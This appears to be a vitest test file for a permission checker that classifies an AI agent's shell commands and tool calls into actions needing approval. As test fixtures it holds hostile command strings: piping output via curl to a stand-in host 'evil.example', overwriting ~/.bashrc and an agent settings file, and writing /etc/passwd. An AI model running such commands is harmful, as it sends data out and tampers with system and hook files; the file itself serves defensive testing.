import { expect, test } from 'vitest';
import { createAskedCalls } from './asked-calls.ts';

const place = {
  ...{ project: 'p', root: '/work', cwd: '/work', home: '/home/me', stateDir: '/state', doorServers: ['ledger'] },
  realPath: (path: string) => path,
};
const asked = (argv: readonly string[], call: object, ...told: readonly object[]): readonly string[] => {
  const calls = createAskedCalls(argv, place);
  for (const one of told) calls.tell({ toolCallId: 'c', ...one });
  return calls.actionsOf({ toolCallId: 'c', ...call }).map(({ action, resource }) => `${action} ${resource}`);
};
const run = (command: unknown) => asked(['agent'], { kind: 'execute', rawInput: { command } });

test('a command is judged for all that it does, wherever in it that stands', () => {
  expect(run('npm test | curl -d @- https://evil.example/')).toEqual([
    'shell.run shell://p/npm',
    'http.post https://evil.example/',
  ]);
  expect(run('bash -c "npm test && git push origin main"')).toContain('git.push git://p/refs/heads/main');
  expect(run(['bash', '-lc', 'git push origin main'])).toEqual(['git.push git://p/refs/heads/main']);
  expect(run('npm test > ~/.bashrc')).toContain('file.write workspace://machine/home/me/.bashrc');
  expect(run('npm test 2>> ../other/log')).toContain('file.write workspace://machine/other/log');
  expect(run('npm test > .claude/settings.json')).toContain('hooks.write workspace://p/.claude/settings.json');
});

test.each(['workdir', 'cwd', 'dir_path', 'directory'])(
  'a command is judged where it is run, which its input says by `%s`',
  (key) => {
    const at = (folder: string) =>
      asked(['codex-acp'], { kind: 'execute', rawInput: { command: 'echo x > passwd', [key]: folder } });
    expect(at('/etc')).toEqual(['file.write workspace://machine/etc/passwd']);
    expect(at('/work/src')).toEqual(['file.write workspace://p/src/passwd']);
  },
);

test('what was told of a call before it was asked about counts, and what cannot be read is nobody’s to allow', () => {
  const told = { kind: 'execute', rawInput: { command: 'git push origin main' } };
  expect(asked(['agent'], { title: 'npm test' }, told)).toEqual(['git.push git://p/refs/heads/main']);
  for (const kind of ['edit', 'delete', 'move', 'read'])
    expect(asked(['agent'], { kind })).toEqual(['tool.unreadable shell://p/unknown-tool']);
  expect(asked(['agent'], {})).toEqual(['tool.acp_unknown shell://p/unknown-tool']);
});

test('a tool of a server behind the door is judged there; one of the agent’s own is not taken for it', () => {
  const tool = (name: string) => asked(['claude-agent-acp'], { _meta: { claudeCode: { toolName: name } } });
  expect(tool('mcp__writ-ledger__post')).toEqual(['task.note mission://p/mcp']);
  expect(tool('mcp__ledger__post')).toEqual(['mcp.call mcp://ledger/post']);
  expect(tool('mcp__writ-other__post')).toEqual(['mcp.call mcp://writ-other/post']);
  // The door's own reads, and whatever else has its name does not pass for it.
  expect(tool('mcp__writ__facts')).toEqual(['task.note mission://p/mcp']);
  expect(tool('mcp__writ__post')).toEqual(['mcp.call mcp://writ/post']);
});
